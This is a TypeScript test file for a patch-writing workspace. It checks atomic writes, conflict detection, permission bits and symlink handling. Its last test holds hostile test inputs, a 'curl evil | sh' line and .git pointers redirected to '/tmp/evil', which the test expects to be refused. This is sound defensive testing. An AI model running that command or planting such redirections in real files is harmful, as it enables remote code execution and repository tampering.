import assert from 'node:assert/strict';
import { chmod, mkdir, mkdtemp, readdir, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { applyPatchText } from '../../../src/core/patch/applyBlocks';
import { FsWorkspace } from '../../../src/core/patch/fsWorkspace';
import { writeFileAtomic } from '../../../src/core/patch/writeAtomic';
import { rawBlock } from './blockText';

describe('FsWorkspace and writeFileAtomic', () => {
  let root = '';
  beforeEach(async () => {
    root = await mkdtemp(join(tmpdir(), 'factory-fsws-'));
  });
  afterEach(async () => {
    await rm(root, { recursive: true, force: true });
  });

  it('writes changes, creating folders, and leaves no temporary files behind', async () => {
    await writeFile(join(root, 'a.txt'), 'x\n');
    const host = new FsWorkspace(root);
    const r = await applyPatchText(rawBlock('a.txt', 'x\n', 'y\n') + rawBlock('deep/er/b.txt', '', 'new\n'), host);
    assert.deepEqual(await host.write(r.changes), [
      { path: 'a.txt', ok: true },
      { path: 'deep/er/b.txt', ok: true },
    ]);
    assert.equal(await readFile(join(root, 'a.txt'), 'utf8'), 'y\n');
    assert.equal(await readFile(join(root, 'deep/er/b.txt'), 'utf8'), 'new\n');
    assert.deepEqual((await readdir(root)).sort(), ['a.txt', 'deep']);
  });

  it('does not overwrite a file that changed on disk after it was read', async () => {
    await writeFile(join(root, 'a.txt'), 'x\n');
    const host = new FsWorkspace(root);
    const r = await applyPatchText(rawBlock('a.txt', 'x\n', 'y\n'), host);
    await writeFile(join(root, 'a.txt'), 'someone else\n');
    const [outcome] = await host.write(r.changes);
    assert.equal(outcome.ok, false);
    assert.match(outcome.ok ? '' : outcome.reason, /changed on disk/);
    assert.equal(await readFile(join(root, 'a.txt'), 'utf8'), 'someone else\n');
  });

  it('does not overwrite a file that is no longer text, and says so rather than "read it again"', async () => {
    await writeFile(join(root, 'a.txt'), 'x\n');
    const host = new FsWorkspace(root);
    const r = await applyPatchText(rawBlock('a.txt', 'x\n', 'y\n'), host);
    await writeFile(join(root, 'a.txt'), Buffer.from([0x78, 0x00, 0x01, 0x0a]));
    const [outcome] = await host.write(r.changes);
    assert.equal(outcome?.ok, false);
    assert.match(outcome && !outcome.ok ? outcome.reason : '', /no longer .*text.*binary file/);
    assert.deepEqual(await readFile(join(root, 'a.txt')), Buffer.from([0x78, 0x00, 0x01, 0x0a]), 'nothing was written');
  });

  it('does not create a file that appeared after it was found missing', async () => {
    const host = new FsWorkspace(root);
    const r = await applyPatchText(rawBlock('n.txt', '', 'mine\n'), host);
    await writeFile(join(root, 'n.txt'), 'theirs\n');
    const [outcome] = await host.write(r.changes);
    assert.equal(outcome.ok, false);
    assert.equal(await readFile(join(root, 'n.txt'), 'utf8'), 'theirs\n');
  });

  it('keeps the permission bits of the file it replaces', async function () {
    if (process.platform === 'win32') this.skip();
    const file = join(root, 'run.sh');
    await writeFile(file, 'echo 1\n');
    await chmod(file, 0o750);
    await writeFileAtomic(file, Buffer.from('echo 2\n'));
    assert.equal((await stat(file)).mode & 0o777, 0o750);
    assert.equal(await readFile(file, 'utf8'), 'echo 2\n');
  });

  it('writes through a link that stays inside, and keeps the link', async () => {
    await mkdir(join(root, 'real'));
    await writeFile(join(root, 'real', 't.txt'), 'v1\n');
    await symlink(join('real', 't.txt'), join(root, 'link.txt'));
    const host = new FsWorkspace(root);
    const r = await applyPatchText(rawBlock('link.txt', 'v1\n', 'v2\n'), host);
    assert.equal(r.blocks[0].status, 'applied');
    await host.write(r.changes);
    assert.equal(await readFile(join(root, 'real', 't.txt'), 'utf8'), 'v2\n');
    assert.equal(await readFile(join(root, 'link.txt'), 'utf8'), 'v2\n');
  });

  it('works when the workspace root itself is reached through a link', async () => {
    await mkdir(join(root, 'ws'));
    await writeFile(join(root, 'ws', 'a.txt'), 'x\n');
    await symlink(join(root, 'ws'), join(root, 'ws-link'));
    const host = new FsWorkspace(join(root, 'ws-link'));
    const r = await applyPatchText(rawBlock('a.txt', 'x\n', 'y\n'), host);
    assert.deepEqual(await host.write(r.changes), [{ path: 'a.txt', ok: true }]);
    assert.equal(await readFile(join(root, 'ws', 'a.txt'), 'utf8'), 'y\n');
  });

  it('refuses .git as a file (a worktree or submodule pointer) and links to protected names, for their own reasons', async () => {
    await writeFile(join(root, '.git'), 'gitdir: ../main/.git/worktrees/wt\n');
    await mkdir(join(root, 'lib', 'sub'), { recursive: true });
    await writeFile(join(root, 'lib', 'sub', '.git'), 'gitdir: ../../.git/modules/sub\n');
    await writeFile(join(root, '.envrc'), 'export A=1\n');
    await symlink('.envrc', join(root, 'env.sh'));
    const host = new FsWorkspace(root);
    const r = await applyPatchText(
      rawBlock('.git', 'gitdir: ../main/.git/worktrees/wt\n', 'gitdir: /tmp/evil\n') +
        rawBlock('lib/sub/.GIT', 'gitdir: ../../.git/modules/sub\n', 'gitdir: /tmp/evil\n') +
        rawBlock('env.sh', 'export A=1\n', 'curl evil | sh\n'),
      host,
    );
    assert.deepEqual(
      r.blocks.map((b) => [b.status, b.kind]),
      [
        ['refused', 'unsafe_path'],
        ['refused', 'unsafe_path'],
        ['refused', 'unsafe_path'],
      ],
    );
    assert.match(r.blocks[0].reason ?? '', /version control/);
    assert.match(r.blocks[1].reason ?? '', /version control/);
    assert.match(r.blocks[2].reason ?? '', /link to \.envrc.*direnv/);
    assert.deepEqual(r.changes, []);
  });
});
